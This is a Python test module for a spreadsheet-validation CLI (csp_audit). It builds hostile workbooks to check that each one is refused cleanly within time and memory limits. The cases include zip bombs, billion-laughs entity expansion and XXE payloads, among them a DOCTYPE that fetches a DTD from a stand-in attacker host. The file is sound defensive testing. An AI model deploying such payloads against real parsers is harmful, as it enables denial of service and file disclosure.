"""A corpus of hostile and broken workbooks, each with its one asserted outcome.

Every file is built here (tests/support/hostile.py), never committed. Each is run through
`csp-audit validate` in-process (CliRunner, exceptions not caught) and, in one subprocess
per file, through `python -m csp_audit.cli.app validate` under a 20 s timeout and a 1.5 GB
address-space limit: no traceback, no crash, the outcome and the place asserted.
"""

from __future__ import annotations

import resource
import subprocess
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
import support.hostile as hostile
from support.builders import minimal_workbook_sheets, write_workbook
from typer.testing import CliRunner

from csp_audit.cli.app import app
from csp_audit.workbook import limits

TIMEOUT_SECONDS = 20
MEMORY_BYTES = 1536 * 1024 * 1024


@dataclass(frozen=True)
class Case:
    build: Callable[[Path], Path]
    exit_code: int
    says: str
    """Text the output must hold: the refusal with its place, or the load's warning."""


def _text(folder: Path) -> Path:
    path = folder / "notes.xlsx"
    path.write_text("Minutes of the board, 13 June 2024\nPresent: all partners\n")
    return path


def _csv(folder: Path) -> Path:
    path = folder / "members.xlsx"
    path.write_text("organisation,role\nTestshire Police,responsible_authority\n")
    return path


def _xls(folder: Path) -> Path:
    path = folder / "old.xls"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4088)
    return path


def _password_protected(folder: Path) -> Path:
    """Excel saves an encrypted workbook as an OLE compound file holding EncryptionInfo."""
    path = folder / "protected.xlsx"
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff"
    path.write_bytes(header + b"\x00" * 482 + "EncryptionInfo".encode("utf-16-le") * 20)
    return path


def _ods(folder: Path) -> Path:
    return hostile.rezip(folder / "members.ods", {
        "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": b"<office:document-content/>"})


def _ods_with_entities(folder: Path) -> Path:
    return hostile.rezip(folder / "entities.ods", {
        "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaa">]><d>&a;</d>'})


def _ods_repeat_bomb(folder: Path) -> Path:
    cell = (b'<table:table-cell table:number-columns-repeated="100000" '
            b'office:value-type="string"><text:p>x</text:p></table:table-cell>')
    return hostile.rezip(folder / "repeats.ods", {
        "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": b"<office:document-content><table:table><table:table-row>" + cell
                       + b"</table:table-row></table:table></office:document-content>"})


def _empty(folder: Path) -> Path:
    path = folder / "empty.xlsx"
    path.write_bytes(b"")
    return path


def _truncated(folder: Path) -> Path:
    whole = hostile.valid(folder)
    path = folder / "cut.xlsx"
    path.write_bytes(whole.read_bytes()[: whole.stat().st_size * 2 // 3])
    return path


def _not_a_workbook(folder: Path) -> Path:
    return hostile.rezip(folder / "photos.xlsx", {"holiday.txt": b"not a workbook"})


def _encrypted_part(folder: Path) -> Path:
    return hostile.raw_zip(folder / "encrypted-zip.xlsx",
                           hostile.parts_of(hostile.valid(folder)), flags=0x1)


def _declared_bomb(folder: Path) -> Path:
    return hostile.deflated_bomb(folder / "bomb.xlsx", 400 * limits.MB)


def _ratio_bomb(folder: Path) -> Path:
    return hostile.deflated_bomb(folder / "ratio.xlsx", 20 * limits.MB)


def _lying_bomb(folder: Path) -> Path:
    """The zip's directory declares 2 KB for a sheet that inflates to 30 MB."""
    parts = hostile.parts_of(hostile.valid(folder))
    parts[hostile.MEETINGS] = hostile.big_sheet_xml(30 * limits.MB)
    return hostile.raw_zip(folder / "liar.xlsx", parts, lie={hostile.MEETINGS: 2048})


def _too_many_parts(folder: Path) -> Path:
    parts = hostile.parts_of(hostile.valid(folder))
    parts.update({f"xl/media/pad{index}.bin": b"" for index in range(limits.MAX_ZIP_MEMBERS)})
    return hostile.rezip(folder / "many-parts.xlsx", parts, zipfile.ZIP_STORED)


def _entity_in(part: str, prolog: bytes, name: str) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        return hostile.with_part(folder, name, part, lambda xml: prolog + _no_declaration(xml))
    return build


def _no_declaration(xml: bytes) -> bytes:
    return xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml


def _utf16_doctype(folder: Path) -> Path:
    def change(xml: bytes) -> bytes:
        text = _no_declaration(xml).decode()
        return ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x SYSTEM '
                '"http://attacker.example/x.dtd">' + text).encode("utf-16")
    return hostile.with_part(folder, "utf16.xlsx", hostile.MEETINGS, change)


def _far_cell(folder: Path) -> Path:
    """One cell at XFD1048576: calamine would try to allocate a grid of 17 billion cells."""
    return hostile.sheets_workbook(folder / "far.xlsx",
                                   lambda book: book["Meetings"].cell(
                                       row=1_048_576, column=16_384, value="x"))


def _far_row(folder: Path) -> Path:
    return hostile.sheets_workbook(folder / "far-row.xlsx",
                                   lambda book: book["Agenda"].cell(row=400_000, column=1,
                                                                    value="stray"))


def _cells_without_references(folder: Path) -> Path:
    return hostile.with_part(folder, "no-refs.xlsx", hostile.MEETINGS,
                             lambda xml: xml.replace(b' r="A', b' x="A'))


def _set(sheet: str, cell: str, value: object) -> Callable[[object], None]:
    def change(book: object) -> None:
        book[sheet][cell] = value  # type: ignore[index]
    return change


def _formula_error(error: str, cell: str, name: str) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        return hostile.with_part(folder, name, hostile.MEETINGS,
                                 lambda xml: hostile.error_cell(xml, cell, error))
    return build


def _merged(folder: Path) -> Path:
    def change(book: object) -> None:
        sheet = book["Meetings"]  # type: ignore[index]
        sheet.insert_rows(1)
        sheet["A1"] = "Board meetings 2024-25"
        sheet.merge_cells("A1:K1")
    return hostile.sheets_workbook(folder / "merged.xlsx", change)


def _merged_data(folder: Path) -> Path:
    def change(book: object) -> None:
        book["Attendance"].merge_cells("A2:A3")  # type: ignore[index]
    return hostile.sheets_workbook(folder / "merged-data.xlsx", change)


def _hidden(folder: Path) -> Path:
    def change(book: object) -> None:
        book["Documents"].sheet_state = "hidden"  # type: ignore[index]
    return hostile.sheets_workbook(folder / "hidden.xlsx", change)


def _long_text(length: int, name: str) -> Callable[[Path], Path]:
    """A title of `length` characters; openpyxl stops at Excel's 32,767, so a longer one
    is written into the sheet's XML."""
    def build(folder: Path) -> Path:
        sheets = minimal_workbook_sheets()
        sheets["Meetings"][1][3] = "x" * 32_767
        base = write_workbook(folder / f"base-{name}", sheets)
        return hostile.change_part(base, folder / name, hostile.MEETINGS, lambda xml: xml
                                   .replace(b"x" * 32_767, b"x" * length))
    return build


def _long_header(folder: Path) -> Path:
    sheets = minimal_workbook_sheets()
    sheets["Meetings"][0].append("h" * 30_000)
    return write_workbook(folder / "long-header.xlsx", sheets)


CASES: dict[str, Case] = {
    "text renamed .xlsx": Case(_text, 2, "is a text file (CSV?), not an .xlsx workbook"),
    "csv renamed .xlsx": Case(_csv, 2, "is a text file (CSV?), not an .xlsx workbook"),
    "old .xls": Case(_xls, 2, "is an old Excel 97-2003 workbook (.xls)"),
    "password-protected": Case(_password_protected, 2, "is password-protected (encrypted"),
    "damaged .ods": Case(_ods, 2, "cannot be read as an .ods workbook"),
    ".ods declaring entities": Case(_ods_with_entities, 2, "declares a DTD or entities"),
    ".ods repeating a cell": Case(_ods_repeat_bomb, 2, "repeats a cell 100,000 times"),
    "empty file": Case(_empty, 2, "is empty (0 bytes)"),
    "truncated workbook": Case(_truncated, 2, "is damaged or truncated"),
    "zip that is not a workbook": Case(_not_a_workbook, 2, "holds no Excel workbook"),
    "encrypted zip parts": Case(_encrypted_part, 2, "password-protected (encrypted) zip"),
    "zip bomb, declared": Case(_declared_bomb, 2,
                               "part xl/worksheets/sheet3.xml inflates to 400 MB"),
    "zip bomb, by ratio": Case(_ratio_bomb, 2, "part xl/worksheets/sheet3.xml inflates "),
    "zip bomb, lying header": Case(_lying_bomb, 2, "inflates to more than the 2,048 bytes"),
    "too many zip parts": Case(_too_many_parts, 2, "parts; a workbook has at most 2,000"),
    "billion laughs in a sheet": Case(
        _entity_in(hostile.MEETINGS, hostile.LAUGHS, "laughs.xlsx"), 2,
        "Meetings: part xl/worksheets/sheet3.xml declares a DTD or XML entities"),
    "external entity in a sheet": Case(
        _entity_in(hostile.MEETINGS, hostile.XXE, "xxe.xlsx"), 2,
        "part xl/worksheets/sheet3.xml declares a DTD"),
    "billion laughs in sharedStrings": Case(
        _entity_in("xl/sharedStrings.xml", hostile.LAUGHS, "laughs-ss.xlsx"), 2,
        "part xl/sharedStrings.xml declares a DTD or XML entities"),
    "external entity in workbook.xml": Case(
        _entity_in("xl/workbook.xml", hostile.XXE, "xxe-wb.xlsx"), 2,
        "part xl/workbook.xml declares a DTD"),
    "UTF-16 DOCTYPE in a sheet": Case(_utf16_doctype, 2, "declares a DTD or XML entities"),
    "cell at XFD1048576": Case(_far_cell, 2, "Meetings!XFD1048576: the sheet uses rows down "
                                             "to 1,048,576; at most 250,000"),
    "stray cell far below": Case(_far_row, 2, "Agenda!A400000: the sheet uses rows down to"),
    "cells without references": Case(_cells_without_references, 2,
                                     "Meetings: has cells without a cell reference"),
    "#REF! in a used cell": Case(_formula_error("#REF!", "B2", "ref.xlsx"), 2,
                                 "Meetings!B2: date: the formula error #REF!, not a value"),
    "#N/A in an ignored column": Case(_formula_error("#N/A", "Q2", "na.xlsx"), 0,
                                      "OK "),
    "formula with no saved value": Case(
        lambda folder: hostile.sheets_workbook(folder / "unsaved.xlsx", _set(
            "Meetings", "B2", "=DATE(2024,6,13)")), 2,
        "Meetings!B2: date: a formula with no saved result"),
    "merged title row": Case(_merged, 0, "OK "),
    "merged data cells": Case(_merged_data, 2, "Attendance!A3: meeting_id is required"),
    "hidden sheet": Case(_hidden, 0, "Documents: sheet 'Documents' is hidden in Excel"),
    "text of 32,767 characters": Case(_long_text(32_767, "long-ok.xlsx"), 0, "OK "),
    "text of 40,000 characters": Case(_long_text(40_000, "long.xlsx"), 2,
                                      "Meetings!D2: title: 40,000 characters"),
    "header of 30,000 characters": Case(_long_header, 0, "warning"),
    "120,000 agenda rows": Case(lambda folder: hostile.many_rows(folder / "big.xlsx",
                                                                 120_000), 0,
                                "120003 agenda items"),
}


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile")
    files = {}
    for index, (name, case) in enumerate(CASES.items()):
        place = folder / str(index)
        place.mkdir()
        files[name] = case.build(place)
    return files


@pytest.mark.parametrize("name", CASES)
def test_each_file_loads_or_is_refused_with_its_place(name: str,
                                                      corpus: dict[str, Path]) -> None:
    case, path = CASES[name], corpus[name]
    result = CliRunner().invoke(app, ["validate", str(path)], catch_exceptions=False)
    assert result.exit_code == case.exit_code, result.output
    assert case.says in result.output
    assert "Traceback" not in result.output
    assert all(len(line) < 400 for line in result.output.splitlines())


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_BYTES, MEMORY_BYTES))


@pytest.mark.parametrize("name", CASES)
def test_each_file_in_bounded_time_and_memory(name: str, corpus: dict[str, Path]) -> None:
    case, path = CASES[name], corpus[name]
    done = subprocess.run([sys.executable, "-m", "csp_audit.cli", "validate", str(path)],
                          capture_output=True, text=True, timeout=TIMEOUT_SECONDS,
                          preexec_fn=_limit_memory, check=False)
    assert done.returncode == case.exit_code, done.stdout + done.stderr
    assert case.says in done.stdout
    assert "Traceback" not in done.stdout + done.stderr
